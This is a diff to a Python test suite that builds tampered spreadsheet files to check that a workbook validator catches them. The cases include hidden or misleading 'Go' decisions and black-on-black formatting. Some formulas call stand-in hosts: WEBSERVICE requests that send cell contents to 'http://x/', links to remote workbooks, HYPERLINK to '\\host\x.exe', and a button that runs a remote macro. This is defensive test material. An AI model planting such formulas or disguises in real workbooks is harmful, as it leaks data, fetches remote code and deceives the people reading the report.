@@ -7,7 +7,18 @@ import re
 from pocgate_xl.workbook.blank import plan_of
 from pocgate_xl.workbook.cell_values import position_of
 from pocgate_xl.workbook.plan import a1
-from tests.hostile.appearance import BANNER, COST, DASHBOARD, RATING, ROW, TOTAL, altered
+from tests.hostile.appearance import (
+    BANNER,
+    BANNER_ROW,
+    COST,
+    DASHBOARD,
+    DECIDED,
+    HEADED,
+    RATING,
+    ROW,
+    TOTAL,
+    altered,
+)
 from tests.hostile.case import Case, Make
 from tests.hostile.differentials import merged
 from tests.hostile.edits import (
@@ -125,12 +136,12 @@ def in_runs(cell: str, look: str) -> Make:
     return in_cell("scorecard", cell, f'{{c}} t="inlineStr"><is>{runs}</is></c>')
 
 
-def beside(text: str, column: str = "N", row: int = 8) -> Make:
+def beside(text: str, column: str = "DA", row: int = 8) -> Make:
     """Write a text into a free cell of the dashboard."""
     return beside_cell(written(text), column, row)
 
 
-def beside_cell(content: str, column: str = "C", row: int = 7) -> Make:
+def beside_cell(content: str, column: str = "H", row: int = HEADED) -> Make:
     """Put contents into a free cell of the dashboard, in the order of its columns."""
 
     def change(xml: bytes) -> bytes:
@@ -174,23 +185,23 @@ CELLS: tuple[Case, ...] = (
             looking("dashboard", BANNER, '<alignment textRotation="90"/>')),
     altered("column of amounts too narrow", "hidden columns", "PG133",
             column_told("dashboard", 3, 'width="2" customWidth="1"')),
-    altered("row of slices", "hidden rows", "PG133", row_told("dashboard", 8, traits='ht="6" customHeight="1"')),
+    altered("row of slices", "hidden rows", "PG133", row_told("dashboard", DECIDED[0], traits='ht="6" customHeight="1"')),
     altered("style beyond the table", "styles", "PG144", replaced(DASHBOARD, rf'<c r="{BANNER}" s="\d+"', f'<c r="{BANNER}" s="9999"')),
     altered("decision beside the decision", "free texts", "PG136", beside("Board decision: Go"), "Go"),
 )  # fmt: skip
 
 EMPTY: tuple[Case, ...] = (
-    altered("decision in the banner itself", "free texts", "PG136", within("dashboard", "H8", written("Go")), "Go"),
-    altered("number in the banner", "free texts", "PG135", within("dashboard", "H8", "><v>30</v>"), "30"),
+    altered("decision in the banner itself", "free texts", "PG136", within("dashboard", f"H{DECIDED[0]}", written("Go")), "Go"),
+    altered("number in the banner", "free texts", "PG135", within("dashboard", f"H{DECIDED[0]}", "><v>30</v>"), "30"),
     altered("note in the blank cells of a table", "free texts", "PG135", within("costs", BAND, written("cheap")), "cheap"),
-    altered("decision behind blanks", "free texts", "PG136", beside("Go" + " " * 300, "C", 7), "Go"),
-    altered("decision over lines of dots", "free texts", "PG136", beside("Go\n" + "." * 250, "C", 7), "Go"),
+    altered("decision behind blanks", "free texts", "PG136", beside("Go" + " " * 300, "H", HEADED), "Go"),
+    altered("decision over lines of dots", "free texts", "PG136", beside("Go\n" + "." * 250, "H", HEADED), "Go"),
     altered("decision by a formula that nobody has computed", "free texts", "PG136",
             beside_cell('t="str"><f>"Decision: G"&amp;"o"</f>'), "Decision: Go"),
     altered("decision by a formula with another value", "free texts", "PG136",
             beside_cell('t="str"><f>"Decision: G"&amp;"o"</f><v>note</v>'), "Decision: Go"),
     altered("decision as the format of a number", "free texts", "PG136",
-            chain(beside_cell("><v>1</v>"), styled("dashboard", "C7", code='"Decision: Go"')), "Go"),
+            chain(beside_cell("><v>1</v>"), styled("dashboard", f"H{HEADED}", code='"Decision: Go"')), "Go"),
     altered("result cut off by its neighbour", "free texts", "PG133", beside_cell(written("–"), "D", 14)),
     altered("a letter a line", "hidden columns", "PG133", column_told("dashboard", 2, 'width="2" customWidth="1"')),
     altered("rating repeated", "number format", "PG133",
@@ -198,7 +209,7 @@ EMPTY: tuple[Case, ...] = (
 )  # fmt: skip
 
 AROUND: tuple[Case, ...] = (
-    altered("decision in black on black", "conditional format", "PG133", condition("dashboard", "B8:J8", expression(), BLACK)),
+    altered("decision in black on black", "conditional format", "PG133", condition("dashboard", BANNER_ROW, expression(), BLACK)),
     altered("ratings in black on black", "conditional format", "PG133", condition("scorecard", "G6:G11", SCALE)),
     altered("conditional formats gone", "what programs drop", "PG138",
             replaced(DASHBOARD, "<conditionalFormatting.*</conditionalFormatting>", "")),
@@ -237,14 +248,14 @@ AROUND: tuple[Case, ...] = (
 )  # fmt: skip
 
 FURTHER: tuple[Case, ...] = (
-    altered("amount with the sign of another currency", "number format", "PG132", styled("dashboard", COST, code='"$"#,##0')),
-    altered("amount with a point written into it", "number format", "PG132", styled("dashboard", COST, code='#,##0"."00')),
-    altered("millions as an amount in yen", "number format", "PG132", styled("dashboard", COST, code='#,##0,,"JPY"')),
+    altered("amount with the sign of another currency", "number format", "PG132", styled("costs", COST, code='"$"#,##0')),
+    altered("amount with a point written into it", "number format", "PG132", styled("costs", COST, code='#,##0"."00')),
+    altered("millions as an amount in yen", "number format", "PG132", styled("costs", COST, code='#,##0,,"JPY"')),
     altered("total crossed out by a condition", "crossed out", "PG133",
             condition("scorecard", TOTAL, expression(), "<dxf><font><strike/></font></dxf>")),
     altered("rating with a point by a condition", "conditional format", "PG132",
             condition("scorecard", RATING, expression(), POINT)),
-    altered("amount in euros", "number format", "PG132", styled("dashboard", COST, code="[$€-407]#,##0")),
+    altered("amount in euros", "number format", "PG132", styled("costs", COST, code="[$€-407]#,##0")),
     altered("label under a merge", "hidden results", "PG133", merged("B5:C5", "checklist")),
     altered("chart with other labels", "charts", "PG135",
             replaced(CHART, r"<c:v>1\. Business KPI improvement</c:v>", "<c:v>1. Board approval</c:v>")),
@@ -284,23 +295,23 @@ RUNNING: tuple[Case, ...] = (
     Case("scale of colours that fetches", ROW, ("rules that run",), "findings", ("PG128",),
          condition("dashboard", "M70", SCALE.replace('type="min"', 'type="formula" val="WEBSERVICE(A1)"'))),
     Case("function handed over", ROW, ("rules that run",), "findings", ("PG128",),
-         beside_cell('><f>_xlfn.MAP("http://x/"&amp;A1,_xleta.WEBSERVICE)</f><v>0</v>', "M", 8)),
+         beside_cell('><f>_xlfn.MAP("http://x/"&amp;A1,_xleta.WEBSERVICE)</f><v>0</v>', "DA", 8)),
     Case("function under another name", ROW, ("rules that run",), "findings", ("PG128",),
-         beside_cell('><f>_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))</f><v>0</v>', "M", 8)),
+         beside_cell('><f>_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))</f><v>0</v>', "DA", 8)),
     Case("shape with a program of another file", ROW, ("shapes",), "findings", ("PG128",),
          drawn(over((40, 13), (44, 16), BUTTON.format("&apos;\\\\host\\x.xlsm&apos;!run")))),
     altered("cell of a workbook on a server", "names", "PG118",
-            beside_cell("><f>'\\\\host\\s\\[b.xlsx]S'!A1</f><v>0</v>", "M", 8)),
+            beside_cell("><f>'\\\\host\\s\\[b.xlsx]S'!A1</f><v>0</v>", "DA", 8)),
     altered("cell of a workbook on the web", "names", "PG118",
-            beside_cell("><f>'http://host/[b.xlsx]S'!A1</f><v>0</v>", "M", 8)),
+            beside_cell("><f>'http://host/[b.xlsx]S'!A1</f><v>0</v>", "DA", 8)),
     altered("cell of a file in another spelling", "names", "PG118",
-            beside_cell("><f>'file:///home/x.xlsx'#$S.A1</f><v>0</v>", "M", 8)),
+            beside_cell("><f>'file:///home/x.xlsx'#$S.A1</f><v>0</v>", "DA", 8)),
     altered("name of a cell on a server", "names", "PG118",
             swap(WORKBOOK, "<definedNames>", "<definedNames><definedName name=\"far\">'\\\\host\\s\\[b.xlsx]S'!$A$1</definedName>")),
     altered("link to a server by a formula", "hyperlinks", "PG120",
-            beside_cell('><f>HYPERLINK("\\\\host\\x.exe","x")</f><v>0</v>', "M", 8)),
+            beside_cell('><f>HYPERLINK("\\\\host\\x.exe","x")</f><v>0</v>', "DA", 8)),
     altered("link to a file by a formula", "hyperlinks", "PG120",
-            beside_cell('><f>HYPERLINK("file:///c:/x.exe","x")</f><v>0</v>', "M", 8)),
+            beside_cell('><f>HYPERLINK("file:///c:/x.exe","x")</f><v>0</v>', "DA", 8)),
     Case("list that fetches", ROW, ("rules that run",), "findings", ("PG128", "PG135"),
          swap(SCORECARD, "<formula1>pg_list_rating</formula1>", '<formula1>WEBSERVICE("http://x/"&amp;A1)</formula1>')),
     Case("condition that calls", ROW, ("rules that run",), "findings", ("PG128",),
@@ -315,10 +326,10 @@ HONEST: tuple[Case, ...] = tuple(
         ("a bold run in a label", in_runs(LABEL, "<b/>")),
         ("printed at 80 per cent", chain(swap(DASHBOARD, "<pageSetup ", '<pageSetup scale="80" '),
                                          replaced(DASHBOARD, "<pageSetUpPr[^>]*/>", ""))),
-        ("amounts in ten thousands", styled("dashboard", COST, code='0"."0,"万円"')),
+        ("amounts in ten thousands", styled("costs", COST, code='0"."0,"万円"')),
         ("a column made narrower", column_told("dashboard", 3, 'width="11" customWidth="1"')),
         ("a link that says where it leads", swap(part_of("start"), "<hyperlink ", '<hyperlink tooltip="To the scorecard" ')),
-        ("amounts in the font of the house", looking("dashboard", COST, font='<font><sz val="10"/><name val="Meiryo UI"/></font>')),
+        ("amounts in the font of the house", looking("costs", COST, font='<font><sz val="10"/><name val="Meiryo UI"/></font>')),
     )
 )  # fmt: skip
 
